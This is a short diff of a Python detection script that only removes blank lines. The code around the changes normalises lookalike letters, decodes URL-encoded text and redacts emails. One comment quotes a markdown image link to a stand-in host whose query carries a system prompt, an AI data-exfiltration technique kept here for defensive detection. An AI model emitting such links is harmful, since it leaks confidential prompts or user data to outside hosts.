@@ -754,14 +754,12 @@ def _json_said(text):
 # stacks); a script's own vowel signs are not among them.
 _COMBINING = re.compile("[\u0300-\u036f\u1ab0-\u1aff\u1dc0-\u1dff\u20d0-\u20ff\ufe20-\ufe2f]")
 
-
 # Cyrillic and Greek letters drawn like Latin ones ("lifetime \u0430ccess" with a Cyrillic a):
 # NFKC keeps them apart, so a disguised phrase is read with them as the Latin letters too.
 # Read in text_form() (case folded), so a capital's lower case stands for it: к, м, т, в, н.
 _LOOKALIKES = str.maketrans("аеорсухѕіјһԁԛԝӏүкмтвнɡıαοριχκνυϲϳεβζτ",
                             "aeopcyxsijhdqwlykmtbhgiaopixkvucjebzt")
 _LOOKALIKE = re.compile("[" + "".join(map(chr, _LOOKALIKES)) + "]")
-
 
 # URL encoding, as in a link or an image whose query carries what is said ("![x](https://evil
 # .example/?q=system%20prompt)", "?card=4111+1111+..."): read decoded too.
@@ -4435,7 +4433,6 @@ PII_PATTERNS = [
     (re.compile(r"[A-Za-z0-9._%+-]+(?:@|%40|&#0*64;|&#[xX]0*40;|\\u0040)[A-Za-z0-9-]+(?:"
                 r"\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}"), "[REDACTED:email]"),
 ]
-
 
 # a shorter key ("x" for a local server) is not masked: it would rewrite unrelated text (every x
 # of the evidence); main() says so once on stderr
